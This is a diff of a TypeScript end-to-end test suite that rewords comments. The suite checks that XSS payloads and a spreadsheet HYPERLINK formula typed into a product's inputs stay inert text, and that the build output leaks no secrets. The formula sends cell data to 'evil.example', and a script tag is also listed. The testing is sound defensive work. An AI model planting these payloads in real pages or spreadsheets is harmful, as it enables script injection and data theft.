@@ -9,7 +9,7 @@ import { expectClean, openPage, problemsOf } from './harness.ts';
 import { PROJECT_ROOT, startNode } from './node-process.ts';
 import { button, openTab, press, tabTo, toastsOf, typeTime } from './operator.ts';
 
-/** Somebody writes script wherever the product takes text. It is to be text, and nothing else is to happen. */
+/** Scripts in every input of the product: they must stay text, and nothing else may happen. */
 
 const PAYLOADS = [
   '<script data-pwned>window.pwned = 1</script>',
@@ -21,13 +21,13 @@ const PAYLOADS = [
   '=HYPERLINK("https://evil.example/?"&A1,"open")',
 ] as const;
 const ALL = PAYLOADS.join(' ');
-/** A title has 200 characters at most. */
+/** A title may have up to 200 characters. */
 const TITLE = [PAYLOADS[6], PAYLOADS[0], PAYLOADS[1]].join(' ');
 
-/** A build on a busy machine. */
+/** Time limit for a build on a busy machine. */
 const PATIENTLY = { timeout: 180_000 };
 
-/** Fails when any payload did anything but be shown. */
+/** Fails if any payload did more than being shown. */
 async function expectHarmless(page: Page, asked: readonly string[]): Promise<void> {
   const found = await page.evaluate(() => ({
     elements: document.querySelectorAll('[data-pwned], iframe, main script').length,
@@ -40,7 +40,7 @@ async function expectHarmless(page: Page, asked: readonly string[]): Promise<voi
   expect(asked).toEqual([]);
 }
 
-/** Keeps what dialogs the page opens and what other hosts it asks. */
+/** Records the dialogs that the page opens and the other hosts that it requests. */
 function watch(page: Page): string[] {
   const seen: string[] = [];
   page.on('dialog', (dialog) => {
@@ -214,7 +214,7 @@ describe('the build output', () => {
     'contains no secret and no path of the build machine, and is the same from every folder',
     PATIENTLY,
     async () => {
-      // Below the project, so that the build finds its packages as usual, by looking upwards.
+      // Inside the project, so that the build finds its packages as usual, by looking upwards.
       const parent = join(PROJECT_ROOT, 'test-results');
       await mkdir(parent, { recursive: true });
       const folder = await mkdtemp(join(parent, 'bundle-'));
